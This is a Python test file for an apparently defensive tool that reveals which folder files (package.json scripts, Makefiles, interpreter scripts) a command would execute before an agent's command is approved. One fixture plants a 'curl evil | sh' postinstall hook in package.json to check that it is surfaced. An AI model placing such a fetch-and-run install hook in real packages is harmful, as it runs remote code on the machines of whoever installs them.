"""What a program would execute of the agent's folder is named before anybody agrees."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from crabpot.decide.known_programs import EXECUTES
from crabpot.host_commands.programs import executes

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[int]:
    fd = os.open(tmp_path, os.O_PATH | os.O_DIRECTORY)
    yield fd
    os.close(fd)


@pytest.mark.parametrize("name", sorted(EXECUTES))
def test_each_file_that_a_known_program_obeys_is_named_where_it_is_there(
    tmp_path: Path, folder: int, name: str
) -> None:
    assert executes((name, "x"), folder) == ()
    for file in EXECUTES[name]:
        (tmp_path / file).parent.mkdir(exist_ok=True)
        (tmp_path / file).write_text("")
    named = executes((name, "x"), folder)
    assert all(any(line.startswith(f"{file} (") for line in named) for file in EXECUTES[name])


def test_the_scripts_of_a_package_are_shown(tmp_path: Path, folder: int) -> None:
    (tmp_path / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}')
    assert "package.json script postinstall: curl evil | sh" in executes(("npm", "install"), folder)


@pytest.mark.parametrize("text", ["", "[]", '{"scripts": 3}', "[" * 100_000, '{"scripts": []}', "\xff"])
def test_a_package_that_is_none_is_still_named(tmp_path: Path, folder: int, text: str) -> None:
    (tmp_path / "package.json").write_text(text)
    assert executes(("npm", "test"), folder)[0].startswith("package.json")


def test_another_content_is_told_from_the_one_that_was_shown(tmp_path: Path, folder: int) -> None:
    makefile = tmp_path / "Makefile"
    makefile.write_text("all:\n\techo fine\n")
    first = executes(("make",), folder)
    makefile.write_text("all:\n\techo evil\n")
    second = executes(("make",), folder)
    assert first != second
    makefile.write_text("all:\n\techo fine\n")
    assert executes(("make",), folder) == first
    with makefile.open("wb") as file:
        file.truncate(5 * 1024 * 1024)
    large = executes(("make",), folder)
    times = makefile.stat()
    with makefile.open("r+b") as file:
        file.write(b"evil")
    os.utime(makefile, ns=(times.st_atime_ns, times.st_mtime_ns))
    assert executes(("make",), folder) != large


def test_a_pipe_in_the_place_of_a_package_holds_nobody_up(tmp_path: Path, folder: int) -> None:
    os.mkfifo(tmp_path / "package.json")
    assert executes(("npm", "test"), folder)[0].startswith("package.json")


def test_a_script_of_the_folder_that_an_interpreter_is_given_is_named(tmp_path: Path, folder: int) -> None:
    (tmp_path / "run.sh").write_text("")
    (tmp_path / "x.py").write_text("")
    assert executes(("bash", "-x", "run.sh"), folder)[0].startswith("run.sh (a file of the folder, run as a program;")
    assert executes(("python3.11", "x.py"), folder)[-1].startswith("x.py (a file of the folder, run as a program;")
    assert executes(("ls", "run.sh"), folder) == ()
